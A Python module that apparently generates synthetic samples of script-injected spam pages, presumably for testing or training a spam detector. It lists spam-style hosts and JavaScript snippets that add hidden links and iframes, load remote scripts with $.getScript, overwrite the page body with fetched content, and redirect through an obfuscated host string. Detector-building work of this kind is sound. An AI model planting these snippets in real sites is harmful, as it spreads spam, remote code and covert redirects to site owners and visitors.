"""Links and frames that scripts build. Written last at first and found by 0.56; now tuned for."""

# ruff: noqa: E501 (code reads better on one line)
import random
from collections.abc import Callable

from clean_pages import Clean

HOSTS = "www.brand-shop24.com kr-toto.info www.mypills-rx.net dhgd88.cc www.lvcopy.shop".split()


def built_by_script(source: random.Random, clean: Clean) -> str:
    """Let a script build the links, frames or forms of strangers from parts."""
    host = source.choice(HOSTS)
    code = source.choice(
        [
            f"var a=document.createElement('a');a.href='http://{host}/';a.innerText='x';document.body.appendChild(a);",
            f"var f=document.createElement('iframe');f.style.display='none';f.src='//{host}/t';document.body.appendChild(f);",
            f"$('body').append('<a href=\"http://{host}\">more</a>');",
            f"$.getScript('https://{host}/x.js');",
            f"fetch('https://{host}/p').then(function(r){{return r.text()}}).then(function(t){{document.body.innerHTML=t}});",
            f"var s='{host[::-1]}'.split('').reverse().join('');location.href='http://'+s;",
        ]
    )
    return clean.html(last=f"<script>{code}</script>")


SCRIPTS: dict[str, Callable[[random.Random, Clean], str]] = {"built by script": built_by_script}
